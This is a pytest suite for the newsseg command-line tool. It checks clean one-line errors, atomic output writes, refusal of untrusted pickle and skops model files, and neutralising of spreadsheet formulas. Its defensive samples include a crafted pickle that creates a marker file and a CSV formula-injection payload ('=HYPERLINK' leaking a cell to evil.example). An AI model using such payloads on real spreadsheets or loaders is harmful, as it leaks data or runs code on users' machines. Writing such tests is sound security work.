"""Issue #6 through the command line: bad input never crashes, loses or half-writes anything,
and model files run no code.

Every known error must end the command with exit status 1 and exactly one stderr line
``newsseg: error: FILE[:LINE]: reason``, with no traceback and no partial output left behind.
"""

from __future__ import annotations

import errno
import json
import os
import types
import zipfile
from pathlib import Path

import joblib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sklearn.linear_model import LogisticRegression
from typer.testing import CliRunner

from newsseg import api, cli, dataset, model_arrays, model_file
from newsseg.cli import app
from newsseg.errors import InputError, WorkerLostError
from newsseg.features import MAX_CHARS
from newsseg.model import ParagraphLabeler
from newsseg.model_file import load as load_model
from newsseg.predict import outputs, tasks

runner = CliRunner()

DUMP = (
    "Council approves new bridge over the river\n"
    "\n"
    "The bridge has been the talk of the town this week, and engineers say the council will "
    "change how residents spend their days for years to come.\n"
    "© 2024 Example News. All rights reserved.\n"
    "Library extends weekend opening hours\n"
)
LABELED = "headline\tCouncil approves new bridge\nbody\tThe bridge has been the talk of the town.\n"


def run(*args: str | Path, input: str | bytes | None = None):
    return runner.invoke(app, [str(arg) for arg in args], input=input)


def assert_one_line_error(result, *fragments: str) -> str:
    """Exit 1, one stderr line ``newsseg: error: ...`` holding ``fragments``, no traceback."""
    assert result.exit_code == 1, (result.exit_code, result.output)
    message = result.stderr.strip()
    assert "\n" not in message, message
    assert message.startswith("newsseg: error: "), message
    assert "Traceback" not in result.output
    for fragment in fragments:
        assert fragment in message, (fragment, message)
    return message


def names(folder: Path) -> list[str]:
    """Everything in ``folder``: temporary files start with a dot, so they show up here."""
    return sorted(path.name for path in folder.iterdir())


def model_args(path: Path) -> list[str]:
    return ["-m", str(path)]


@pytest.fixture()
def dump(tmp_path) -> Path:
    path = tmp_path / "page.txt"
    path.write_text(DUMP, encoding="utf-8")
    return path


# --------------------------------------------------------------------------- bad input


def test_missing_path_for_every_command(tmp_path, tiny_model_path):
    missing = tmp_path / "nope.txt"
    assert_one_line_error(run("predict", missing, *model_args(tiny_model_path)), "nope.txt")
    result = run("evaluate", tmp_path / "nope.tsv", *model_args(tiny_model_path))
    assert_one_line_error(result, "nope.tsv: no such file or folder")
    result = run("train", tmp_path / "nope.tsv", "-o", tmp_path / "m.npz")
    assert_one_line_error(result, "nope.tsv: no such file or folder")
    assert names(tmp_path) == []


def test_folder_without_inputs(tmp_path, tiny_model_path):
    (tmp_path / "notes.md").write_text("nothing to label", encoding="utf-8")
    result = run("predict", tmp_path, *model_args(tiny_model_path))
    assert_one_line_error(result, str(tmp_path), "no *.txt/*.tsv")


def test_binary_file(tmp_path, tiny_model_path):
    image = tmp_path / "image.txt"
    image.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    result = run("predict", image, *model_args(tiny_model_path))
    assert_one_line_error(result, "image.txt:3: binary data")


def test_utf16_text_is_binary_without_its_encoding(tmp_path, tiny_model_path):
    wide = tmp_path / "wide.txt"
    wide.write_bytes(DUMP.encode("utf-16"))
    assert_one_line_error(run("predict", wide, *model_args(tiny_model_path)), "--encoding")
    result = run("predict", wide, *model_args(tiny_model_path), "--encoding", "utf-16")
    assert result.exit_code == 0, result.output


def test_undecodable_bytes_suggest_encoding(tmp_path, tiny_model_path):
    latin = tmp_path / "latin.txt"
    latin.write_bytes(b"Headline\n\nCaf\xe9 society\n")
    result = run("predict", latin, *model_args(tiny_model_path))
    assert_one_line_error(result, "latin.txt:3:", "0xe9", "--encoding")
    result = run("predict", latin, *model_args(tiny_model_path), "--encoding", "latin-1")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[1].endswith("\tCafé society")


def test_unknown_encoding(dump, tiny_model_path):
    result = run("predict", dump, *model_args(tiny_model_path), "--encoding", "klingon")
    assert_one_line_error(result, "page.txt", "unknown encoding 'klingon'")


def test_undecodable_standard_input_is_named_dash(tiny_model_path):
    result = run("predict", "-", *model_args(tiny_model_path), input=b"ok\n\xff\n")
    assert_one_line_error(result, "-:2: cannot decode byte 0xff")


def test_labeled_line_without_tab(tmp_path, tiny_model_path):
    bad = tmp_path / "bad.tsv"
    bad.write_text("headline\tTitle\nbody text without a tab\n", encoding="utf-8")
    result = run("evaluate", bad, *model_args(tiny_model_path))
    assert_one_line_error(result, "bad.tsv:2: no tab")
    result = run("train", bad, "-o", tmp_path / "m.npz")
    assert_one_line_error(result, "bad.tsv:2: no tab")
    assert names(tmp_path) == ["bad.tsv"]


def test_line_numbers_are_an_editors_line_numbers(tmp_path):
    # str.splitlines() would also break at U+2028, form feed and a lone CR.
    bad = tmp_path / "bad.tsv"
    bad.write_text("headline\tOne\u2028line\x0cstill\rone\nno tab\n", encoding="utf-8")
    assert_one_line_error(run("train", bad, "-o", tmp_path / "m.npz"), "bad.tsv:2: no tab")


def test_label_outside_the_label_set(tmp_path, tiny_corpus, tiny_model_path):
    advert = tmp_path / "ads.tsv"
    advert.write_text(LABELED + "advert\tBuy two, get one free\n", encoding="utf-8")
    result = run("train", advert, "-o", tmp_path / "m.npz")
    assert_one_line_error(result, "ads.tsv:3: label 'advert'", "--labels")
    # evaluate and predict have no --labels: the model's labels are the label set.
    result = run("evaluate", advert, *model_args(tiny_model_path))
    assert_one_line_error(result, "ads.tsv:3: label 'advert'", "the model's labels")
    result = run("predict", advert, *model_args(tiny_model_path))
    assert_one_line_error(result, "ads.tsv:3: label 'advert'", "*.txt")
    # Declared, the new label is learnt, and the model's label set then includes it.
    model_path = tmp_path / "m.npz"
    labels = "headline,body,legal,teaser,advert"
    result = run("train", tiny_corpus, advert, "-o", model_path, "--labels", labels)
    assert result.exit_code == 0, result.output
    assert run("evaluate", advert, *model_args(model_path)).exit_code == 0
    assert run("predict", advert, *model_args(model_path)).exit_code == 0


def test_declared_label_set_must_not_be_empty(tiny_corpus, tmp_path):
    result = run("train", tiny_corpus, "-o", tmp_path / "m.npz", "--labels", " , ")
    assert_one_line_error(result, "--labels")


def test_training_data_with_a_single_label(tmp_path):
    one = tmp_path / "one.tsv"
    one.write_text("body\tFirst.\nbody\tSecond.\n", encoding="utf-8")
    result = run("train", one, "-o", tmp_path / "m.npz")
    assert_one_line_error(result, "one.tsv", "at least two different labels")


def test_empty_input(tmp_path, tiny_model_path):
    empty_dump, empty_tsv = tmp_path / "empty.txt", tmp_path / "empty.tsv"
    empty_dump.write_text("\n   \n\r\n", encoding="utf-8")
    empty_tsv.write_bytes(b"")
    result = run("predict", empty_dump, *model_args(tiny_model_path))
    assert_one_line_error(result, "empty.txt: no paragraphs")
    result = run("evaluate", empty_tsv, *model_args(tiny_model_path))
    assert_one_line_error(result, "empty.tsv: no paragraphs")
    result = run("train", empty_tsv, "-o", tmp_path / "m.npz")
    assert_one_line_error(result, "empty.tsv: no paragraphs")
    result = run("predict", "-", *model_args(tiny_model_path), input="")
    assert_one_line_error(result, "-: no paragraphs")


@pytest.mark.parametrize(
    ("name", "content", "missing"),
    [
        ("table.csv", "id,words\n1,hello\n", "doc_id, text"),
        ("table.jsonl", '{"id": 1, "words": "hello"}\n', "doc_id, text"),
        ("table.csv", "doc_id,text\nd,hello\n", "label"),
    ],
)
def test_table_without_the_needed_columns(tmp_path, tiny_model_path, name, content, missing):
    table = tmp_path / name
    table.write_text(content, encoding="utf-8")
    command = "evaluate" if missing == "label" else "predict"
    result = run(command, table, *model_args(tiny_model_path))
    assert_one_line_error(result, f"{name}: missing column(s): {missing}")


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ('{"doc_id": "d", "text": "ok"}\n{not json\n', "table.jsonl:2: not a JSON object"),
        ('{"doc_id": "d", "text": "ok"}\n["a list"]\n', "table.jsonl:2: not a JSON object"),
        ('{"doc_id": "d", "text": ' + "9" * 5000 + "}\n", "table.jsonl:1:"),
        ("[" * 100_000 + "]" * 100_000 + "\n", "table.jsonl:1:"),
    ],
)
def test_bad_jsonl_line(tmp_path, tiny_model_path, content, fragment):
    table = tmp_path / "table.jsonl"
    table.write_text(content, encoding="utf-8")
    assert_one_line_error(run("predict", table, *model_args(tiny_model_path)), fragment)


def test_bad_csv_and_parquet(tmp_path, tiny_model_path):
    csv = tmp_path / "table.csv"
    csv.write_text('doc_id,text\nd,"never closed\n', encoding="utf-8")
    assert_one_line_error(run("predict", csv, *model_args(tiny_model_path)), "not a valid CSV")
    pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
    parquet = tmp_path / "table.parquet"
    parquet.write_bytes(b"PAR1 this is not parquet PAR1")
    result = run("predict", parquet, *model_args(tiny_model_path))
    assert_one_line_error(result, "table.parquet: not a valid Parquet file")


def test_doc_ids_that_are_no_file_names(tmp_path, tiny_model_path):
    table = tmp_path / "table.jsonl"
    rows = [{"doc_id": "a/b\u0000c", "text": "Title"}, {"doc_id": "", "text": "Other"}]
    table.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    out = tmp_path / "out"
    result = run("predict", table, *model_args(tiny_model_path), "-o", out)
    assert result.exit_code == 0, result.output
    assert names(out) == ["_.tsv", "a_b_c.tsv"]


# --------------------------------------------------------------------------- model files


def copy_with_metadata(source: Path, target: Path, metadata: bytes) -> None:
    """``source``, a 0.x skops archive, with its newsseg metadata entry replaced."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            if item.filename != "newsseg-meta.json":
                new.writestr(item, old.read(item))
        new.writestr("newsseg-meta.json", metadata)


def with_metadata(source: Path, target: Path, metadata: dict) -> None:
    """``source``, a model file of arrays, with other metadata in its header."""
    arrays = model_arrays.read(source)
    with target.open("wb") as stream:
        model_arrays.write(
            stream, model_arrays.ModelArrays({**arrays.header, "metadata": metadata}, arrays.arrays)
        )


def tiny_metadata(model_path: Path) -> bytes:
    return json.dumps(model_file.read_metadata(model_path)).encode()


def test_corrupt_model_files(dump, tmp_path, tiny_model_path, tiny_legacy_path):
    for source in (tiny_model_path, tiny_legacy_path):
        truncated = tmp_path / f"cut{source.suffix}"
        truncated.write_bytes(source.read_bytes()[:4000])
        assert_one_line_error(run("predict", dump, *model_args(truncated)), truncated.name)
    garbled = tmp_path / "garbled.skops"
    copy_with_metadata(tiny_legacy_path, garbled, b"[1, 2, 3]")
    assert_one_line_error(run("predict", dump, *model_args(garbled)), "corrupt model file")
    with zipfile.ZipFile(tiny_legacy_path) as old, zipfile.ZipFile(garbled, "w") as new:
        for item in old.infolist():
            data = old.read(item)
            new.writestr(item, b"{" if item.filename == "schema.json" else data)
    assert_one_line_error(run("predict", dump, *model_args(garbled)), "corrupt model file")


def test_files_that_are_not_models(dump, tmp_path, tiny_model_path):
    assert_one_line_error(run("predict", dump, *model_args(dump)), "page.txt: not a newsseg model")
    assert_one_line_error(run("predict", dump, *model_args(tmp_path)), "no such model file")
    sio = pytest.importorskip("skops.io")  # below: 0.x model files, read with skops
    other = tmp_path / "other.skops"
    sio.dump(LogisticRegression(), other)
    assert_one_line_error(run("predict", dump, *model_args(other)), "no newsseg metadata")
    disguised = tmp_path / "disguised.skops"
    copy_with_metadata(other, disguised, tiny_metadata(tiny_model_path))
    result = run("predict", dump, *model_args(disguised))
    assert_one_line_error(result, "disguised.skops", "holds no ParagraphLabeler")
    renamed = tmp_path / "renamed.npz"  # a 0.x file under the new suffix
    renamed.write_bytes(disguised.read_bytes())
    assert_one_line_error(run("predict", dump, *model_args(renamed)), "renamed.npz", "skops")


def test_model_of_another_scikit_learn_version(dump, tmp_path, tiny_legacy_path):
    metadata = json.loads(tiny_metadata(tiny_legacy_path))
    metadata["versions"]["scikit-learn"] = "0.24.2"
    old = tmp_path / "old.skops"
    copy_with_metadata(tiny_legacy_path, old, json.dumps(metadata).encode())
    result = run("predict", dump, *model_args(old))
    assert_one_line_error(result, "old.skops", "scikit-learn 0.24.2", "newsseg train")
    # A model file of arrays is read by any scikit-learn, or none.
    assert run("predict", dump).exit_code == 0


class RunsCode:
    """A pickle that creates ``marker`` when unpickled: proof that code ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


@pytest.mark.parametrize("name", ["evil.joblib", "evil.pkl", "evil.skops", "evil"])
def test_a_pickle_is_never_unpickled_without_trust(dump, tmp_path, name):
    marker = tmp_path / "code-ran"
    crafted = tmp_path / name
    joblib.dump(RunsCode(marker), crafted)
    result = run("predict", dump, *model_args(crafted))
    message = assert_one_line_error(result, name)
    if crafted.suffix in (".joblib", ".pkl"):
        assert "--trust-pickle" in message
    else:  # a pickle named .skops (or nothing) is no skops archive, and is refused as such
        assert "not a newsseg model file" in message
    assert not marker.exists()


class Gadget:
    """A type no newsseg model holds: skops must refuse to build it."""

    def __init__(self) -> None:
        self.armed = True


def test_a_skops_file_with_an_untrusted_type_is_refused(dump, tmp_path, tiny_fitted):
    sio = pytest.importorskip("skops.io")
    labeler, metadata = tiny_fitted
    bundle = tmp_path / "bundle.skops"
    sio.dump({"model": labeler, "gadget": Gadget()}, tmp_path / "plain.skops")
    copy_with_metadata(tmp_path / "plain.skops", bundle, json.dumps(metadata).encode())
    result = run("predict", dump, *model_args(bundle))
    assert_one_line_error(result, "bundle.skops", "does not trust", "Gadget")


# --------------------------------------------------------------------------- outputs


def test_output_under_a_regular_file(dump, tmp_path, tiny_corpus, tiny_model_path):
    blocker = tmp_path / "blocker"
    blocker.write_text("a file, not a folder", encoding="utf-8")
    result = run("train", tiny_corpus, "-o", blocker / "m.npz")
    assert_one_line_error(result, "blocker/m.npz", "is a file, not a folder")
    result = run("predict", dump, *model_args(tiny_model_path), "-o", blocker / "out")
    assert_one_line_error(result, "blocker/out", "is a file, not a folder")
    result = run("predict", dump, *model_args(tiny_model_path), "-o", blocker)
    assert_one_line_error(result, "blocker", "is a file, not a folder")
    result = run("evaluate", tiny_corpus, *model_args(tiny_model_path), "--json", blocker / "s")
    assert_one_line_error(result, "blocker/s", "is a file, not a folder")
    assert names(tmp_path) == ["blocker", "page.txt"]


def test_output_that_is_a_folder(tmp_path, tiny_corpus, tiny_model_path):
    folder = tmp_path / "m.npz"
    folder.mkdir()
    assert_one_line_error(run("train", tiny_corpus, "-o", folder, "--force"), "is a folder")
    result = run("evaluate", tiny_corpus, *model_args(tiny_model_path), "--json", folder)
    assert_one_line_error(result, "m.npz: is a folder")


def test_output_folder_without_write_permission(dump, tmp_path, tiny_model_path, monkeypatch):
    # Tests run as root, for whom chmod takes nothing away: deny the access check instead.
    real_access = os.access

    def access(path, mode, **kwargs):
        return Path(path) != tmp_path and real_access(path, mode, **kwargs)

    monkeypatch.setattr(dataset.os, "access", access)
    result = run("predict", dump, *model_args(tiny_model_path), "-o", tmp_path / "out")
    assert_one_line_error(result, "out", "no permission to write")
    assert names(tmp_path) == ["page.txt"]


def test_existing_outputs_are_kept_without_force(dump, tmp_path, tiny_corpus, tiny_model_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "page.tsv").write_text("old", encoding="utf-8")
    result = run("predict", dump, *model_args(tiny_model_path), "-o", out)
    assert_one_line_error(result, "page.tsv: exists; use --force")
    assert (out / "page.tsv").read_text(encoding="utf-8") == "old"


class DiskFull:
    """A stream that writes half of what it is given, then fails as a full disk would."""

    def __init__(self, stream) -> None:
        self.stream = stream

    def write(self, text):
        self.stream.write(text[: len(text) // 2])
        self.stream.flush()
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        self.stream.close()


@pytest.fixture()
def full_disk(monkeypatch):
    """Every atomic text output fails half-way through writing."""
    real_fdopen = os.fdopen
    monkeypatch.setattr(dataset.os, "fdopen", lambda *a, **k: DiskFull(real_fdopen(*a, **k)))


def test_predictions_are_never_half_written(dump, tmp_path, tiny_model_path, full_disk):
    out = tmp_path / "out"
    out.mkdir()
    (out / "page.tsv").write_text("old", encoding="utf-8")
    result = run("predict", dump, *model_args(tiny_model_path), "-o", out, "--force")
    assert_one_line_error(result, "page.tsv: cannot write: No space left on device")
    assert names(out) == ["page.tsv"]
    assert (out / "page.tsv").read_text(encoding="utf-8") == "old"


def test_json_report_is_never_half_written(tmp_path, tiny_corpus, tiny_model_path, full_disk):
    report = tmp_path / "scores.json"
    report.write_text("old", encoding="utf-8")
    result = run("evaluate", tiny_corpus, *model_args(tiny_model_path), "--json", report, "--force")
    assert_one_line_error(result, "scores.json: cannot write: No space left on device")
    assert names(tmp_path) == ["scores.json"]
    assert report.read_text(encoding="utf-8") == "old"


def test_a_model_is_never_half_written(tmp_path, tiny_corpus, monkeypatch):
    def write_half(stream, model):
        stream.write(b"PK\x03\x04 half a model")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    out = tmp_path / "models"
    out.mkdir()
    (out / "m.npz").write_text("old model", encoding="utf-8")
    (out / "m.meta.json").write_text("old metadata", encoding="utf-8")
    monkeypatch.setattr(model_arrays, "write", write_half)
    result = run("train", tiny_corpus, "-o", out / "m.npz", "--force")
    assert_one_line_error(result, "m.npz: cannot write: No space left on device")
    assert names(out) == ["m.meta.json", "m.npz"]
    assert (out / "m.npz").read_text(encoding="utf-8") == "old model"
    assert (out / "m.meta.json").read_text(encoding="utf-8") == "old metadata"


def test_a_failed_train_leaves_no_model_file(tmp_path, tiny_corpus, full_disk):
    # The model itself is written, then its metadata copy fails: neither may remain.
    out = tmp_path / "models"
    result = run("train", tiny_corpus, "-o", out / "m.npz")
    assert_one_line_error(result, "cannot write: No space left on device")
    assert not out.exists() or names(out) == []


def test_an_unexpected_error_keeps_its_traceback(dump, tiny_model_path, monkeypatch):
    def broken(*args, **kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(tasks, "label_frame", broken)
    result = run("predict", dump, *model_args(tiny_model_path))
    assert result.exit_code == cli.BUG_EXIT
    assert "Traceback" in result.stderr and "ZeroDivisionError: a bug" in result.stderr
    assert result.stderr.strip().splitlines()[-1] == cli.BUG_HINT


# --------------------------------------------------------------------------- many inputs


@pytest.fixture()
def mixed_folder(tmp_path) -> Path:
    """Good and bad inputs, in the order a folder is read."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a_good.txt").write_text(DUMP, encoding="utf-8")
    (folder / "b_latin.txt").write_bytes(b"Title\nCaf\xe9\n")
    (folder / "c_good.tsv").write_text(LABELED, encoding="utf-8")
    (folder / "d_notab.tsv").write_text("headline\tT\nbody\tB\nadvert\tBuy\n", encoding="utf-8")
    (folder / "e_empty.txt").write_text("\n", encoding="utf-8")
    (folder / "f_good.txt").write_text("A single headline\n", encoding="utf-8")
    return folder


BAD_LINES = [
    "b_latin.txt:2: cannot decode byte 0xe9",
    "d_notab.tsv:3: label 'advert'",
    "e_empty.txt: no paragraphs",
]


def assert_bad_inputs_listed(stderr: str, *extra: str) -> None:
    errors = [line for line in stderr.splitlines() if line.startswith("newsseg: error: ")]
    assert len(errors) == len(BAD_LINES) + len(extra), stderr
    for line, fragment in zip(errors, [*BAD_LINES, *extra], strict=True):
        assert fragment in line
    assert "Traceback" not in stderr


def test_bad_inputs_among_good_ones_to_a_folder(mixed_folder, tmp_path, tiny_model_path):
    out = tmp_path / "out"
    missing = tmp_path / "missing.txt"
    result = run("predict", mixed_folder, missing, *model_args(tiny_model_path), "-o", out)
    assert result.exit_code == 1
    assert names(out) == ["a_good.tsv", "c_good.tsv", "f_good.tsv"]
    assert (out / "a_good.tsv").read_text(encoding="utf-8").count("\n") == 4
    assert result.stderr.splitlines()[0] == f"wrote 3 file(s) to {out}"
    assert_bad_inputs_listed(result.stderr, "missing.txt: no such file or folder")


def test_bad_inputs_among_good_ones_to_stdout(mixed_folder, tiny_model_path):
    result = run("predict", mixed_folder, *model_args(tiny_model_path))
    assert result.exit_code == 1
    documents = result.stdout.split("\n\n")
    assert [len(doc.strip().splitlines()) for doc in documents] == [4, 2, 1]
    assert documents[1].splitlines()[0].endswith("\tCouncil approves new bridge")
    assert_bad_inputs_listed(result.stderr)


def test_bad_inputs_among_good_ones_as_csv_has_one_header(mixed_folder, tiny_model_path):
    result = run("predict", mixed_folder, *model_args(tiny_model_path), "--format", "csv")
    assert result.exit_code == 1
    assert result.stdout.count("doc_id,line,text,label") == 1
    assert {line.split(",")[0] for line in result.stdout.splitlines()[1:]} == {
        "a_good",
        "c_good",
        "f_good",
    }


def test_fail_fast_stops_at_the_first_bad_input(mixed_folder, tmp_path, tiny_model_path):
    out = tmp_path / "out"
    args = ["predict", mixed_folder, *model_args(tiny_model_path), "--fail-fast"]
    result = run(*args, "-o", out)
    assert_one_line_error(result, BAD_LINES[0])
    assert names(out) == ["a_good.tsv"]
    result = run(*args)
    assert_one_line_error(result, BAD_LINES[0])
    assert len(result.stdout.strip().splitlines()) == 4


def test_same_stem_in_two_folders(tmp_path, tiny_model_path):
    for folder in ("x", "y"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "page.txt").write_text(DUMP, encoding="utf-8")
    result = run("predict", tmp_path / "x", tmp_path / "y", *model_args(tiny_model_path))
    assert result.exit_code == 0
    assert len(result.stdout.split("\n\n")) == 2  # two documents, decoded apart
    out = tmp_path / "out"
    result = run("predict", tmp_path / "x", tmp_path / "y", *model_args(tiny_model_path), "-o", out)
    assert_one_line_error(result, "page.tsv", "same file")
    assert not out.exists()


# --------------------------------------------------------------------------- size


def test_a_20_mb_line_is_labeled_and_kept_whole(tmp_path, tiny_model_path):
    paragraph = "words " * 3_500_000 + "end"  # 21 MB; its capped prefix ends in a word
    huge = tmp_path / "huge.txt"
    huge.write_text(f"Council approves new bridge\n{paragraph}\n", encoding="utf-8")
    prefix = tmp_path / "prefix.txt"
    prefix.write_text(f"Council approves new bridge\n{paragraph[:MAX_CHARS]}\n", encoding="utf-8")
    out = tmp_path / "out"
    args = [*model_args(tiny_model_path), "--format", "jsonl", "--proba", "-o", out]
    assert run("predict", huge, prefix, *args).exit_code == 0
    whole = [json.loads(line) for line in (out / "huge.jsonl").read_text("utf-8").splitlines()]
    capped = [json.loads(line) for line in (out / "prefix.jsonl").read_text("utf-8").splitlines()]
    assert whole[1]["text"] == paragraph  # the output keeps the full paragraph ...
    # ... while the features see only its first MAX_CHARS characters.
    assert [(r["label"], r["proba"]) for r in whole] == [(r["label"], r["proba"]) for r in capped]


def test_readers_take_a_large_file_in_stride(tmp_path):
    lines = "".join(f"headline\tParagraph {n}\n" for n in range(200_000))
    big = tmp_path / "big.tsv"
    big.write_text(lines, encoding="utf-8")
    frame = dataset.read_input(big, labeled=True)
    assert len(frame) == 200_000
    assert frame["line"].iloc[-1] == 200_000


# --------------------------------------------------------------------------- determinism


def test_training_twice_gives_the_same_model(tmp_path, tiny_corpus, dump):
    outputs = []
    for name in ("one", "two"):
        model_path = tmp_path / name / "m.npz"
        result = run("train", tiny_corpus, "-o", model_path, "--cv", "2")
        assert result.exit_code == 0, result.output
        metadata = json.loads((tmp_path / name / "m.meta.json").read_text(encoding="utf-8"))
        assert metadata.pop("saved")
        predicted = run("predict", tiny_corpus, dump, "-m", model_path, "--format", "jsonl")
        predicted_proba = run(
            "predict", dump, "-m", model_path, "--format", "jsonl", "--proba"
        ).stdout
        outputs.append((metadata, predicted.stdout, predicted_proba))
    assert outputs[0] == outputs[1]


# --------------------------------------------------------------------------- any input

SUFFIXES = [".txt", ".tsv", ".csv", ".jsonl"]
FRAGMENTS = [
    "\n",
    "\r\n",
    "\t",
    ",",
    '"',
    "{",
    "}",
    ":",
    '"doc_id"',
    '"text"',
    "doc_id,text,label\n",
    "headline\t",
    "body\t",
    "legal",
    "\ufeff",
    "\u2028",
    "\x00",
    "é",
    "©",
    " ",
]
structured_text = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=8), max_size=30).map(
    "".join
)
any_bytes = st.binary(max_size=400)
ANY_INPUT = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    derandomize=True,  # the same examples on every run
    database=None,
)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("any-input")


def assert_clean_outcome(result) -> None:
    """Exit 0, or exit 1 with one ``newsseg: error:`` line; never a traceback."""
    if result.exit_code != 0:
        assert_one_line_error(result)


def write_input(scratch: Path, suffix: str, content: bytes) -> Path:
    path = scratch / f"input{suffix}"
    path.write_bytes(content)
    return path


@ANY_INPUT
@given(content=any_bytes | structured_text.map(str.encode), suffix=st.sampled_from(SUFFIXES))
def test_predict_any_file(scratch, tiny_model_path, content, suffix):
    path = write_input(scratch, suffix, content)
    assert_clean_outcome(run("predict", path, *model_args(tiny_model_path), "--format", "jsonl"))


@ANY_INPUT
@given(content=any_bytes | structured_text.map(str.encode), suffix=st.sampled_from(SUFFIXES[1:]))
def test_evaluate_any_file(scratch, tiny_model_path, content, suffix):
    path = write_input(scratch, suffix, content)
    assert_clean_outcome(run("evaluate", path, *model_args(tiny_model_path)))


@ANY_INPUT
@given(text=st.text(max_size=200), suffix=st.sampled_from(SUFFIXES))
def test_readers_any_unicode(scratch, text, suffix):
    path = write_input(scratch, suffix, text.encode("utf-8"))
    for labeled in (False, True):
        try:
            frame = dataset.read_input(path, labeled=labeled)
        except InputError as error:
            assert str(error).startswith(str(path))
        else:
            assert list(frame.columns) == dataset.COLUMNS
            assert (frame["text"] != "").all()


# --------------------------------------------------------------------------- round two (#15)

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)"]


def csv_cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


def test_csv_predictions_neutralise_formulas(tmp_path, tiny_model_path):
    page = tmp_path / "=cmd.txt"
    page.write_text("Council approves new bridge\n" + "\n".join(FORMULAS) + "\n", encoding="utf-8")
    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "--proba")
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(result.stdout)
    texts = [row[header.index("text")] for row in rows]
    assert texts[1:] == ["'" + formula for formula in FORMULAS]
    assert {row[header.index("doc_id")] for row in rows} == {"'=cmd"}
    for row in rows:  # numbers stay numbers
        assert all(float(row[header.index(f"proba_{label}")]) >= 0 for label in ("body", "legal"))
    out = tmp_path / "out"
    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    cells = csv_cells((out / "=cmd.csv").read_text(encoding="utf-8"))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)


def test_errors_csv_neutralises_formulas(tmp_path, tiny_model_path):
    labeled = tmp_path / "page.tsv"
    # Labels the model cannot all get right: every line is called legal.
    labeled.write_text("".join(f"legal\t{text}\n" for text in FORMULAS), encoding="utf-8")
    report = tmp_path / "report"
    result = run("evaluate", labeled, *model_args(tiny_model_path), "--report", report)
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells((report / "errors.csv").read_text(encoding="utf-8"))
    assert rows
    texts = [row[header.index("text")] for row in rows]
    assert all(text in ["'" + formula for formula in FORMULAS] for text in texts), texts
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (
            "doc_id,text\nd,Title,extra field\nd,Body\n",
            "table.csv:2: 3 field(s), but the header has 2",
        ),
        ("doc_id,text\nd,Title\nd,Body,extra\n", "table.csv:3: 3 field(s)"),
        ("doc_id,text\nd,Title\nd\n", "table.csv:3: 1 field(s), but the header has 2"),
        ('doc_id,text\nd,"Two\nlines"\n\nd,Body,extra\n', "table.csv:5: 3 field(s)"),
        ("doc_id,text,text\nd,Title,Body\n", "table.csv:1: column(s) named twice: text"),
    ],
)
def test_csv_row_with_a_wrong_field_count(tmp_path, tiny_model_path, content, fragment):
    table = tmp_path / "table.csv"
    table.write_text(content, encoding="utf-8")
    assert_one_line_error(run("predict", table, *model_args(tiny_model_path)), fragment)


def test_csv_line_numbers_count_the_lines_of_quoted_fields(tmp_path):
    table = tmp_path / "table.csv"
    table.write_text('doc_id,text\nd,"Two\nlines"\n\nd,Third\n', encoding="utf-8")
    frame = dataset.read_input(table, labeled=False)
    assert frame["text"].tolist() == ["Two lines", "Third"]
    assert frame["line"].tolist() == [2, 5]


def test_long_doc_ids_get_short_names_with_a_stable_hash(tmp_path, tiny_model_path):
    long_ids = ["é" * 150 + "-a", "é" * 150 + "-b", "x" * 300]  # 302 and 300 bytes
    table = tmp_path / "table.jsonl"
    rows = [{"doc_id": doc_id, "text": f"Title of {doc_id[-1]}"} for doc_id in long_ids]
    rows.append({"doc_id": "short", "text": "Title"})
    table.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    out = tmp_path / "out"
    result = run("predict", table, *model_args(tiny_model_path), "-o", out, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    written = names(out)
    assert len(written) == 4 and "short.jsonl" in written
    assert all(len(name.encode()) <= outputs.MAX_STEM_BYTES + len(".jsonl") for name in written)
    for name in written:  # each file holds its own document
        record = json.loads((out / name).read_text(encoding="utf-8"))
        assert name.startswith(record["doc_id"][:20])
    # The names are the same on every run: --force overwrites them, no new files appear.
    result = run("predict", table, *model_args(tiny_model_path), "-o", out, "--format", "jsonl")
    assert_one_line_error(result, "exists; use --force")
    args = ["-o", out, "--format", "jsonl", "--force"]
    assert run("predict", table, *model_args(tiny_model_path), *args).exit_code == 0
    assert names(out) == written


def test_a_long_file_name_gets_a_short_output_name(tmp_path, tiny_model_path):
    page = tmp_path / ("p" * 250 + ".txt")  # its output's temporary file would be too long
    page.write_text(DUMP, encoding="utf-8")
    out = tmp_path / "out"
    result = run("predict", page, *model_args(tiny_model_path), "-o", out)
    assert result.exit_code == 0, result.output
    [name] = names(out)
    assert name.startswith("p" * 100) and name.endswith(".tsv") and len(name) < 255 - 10


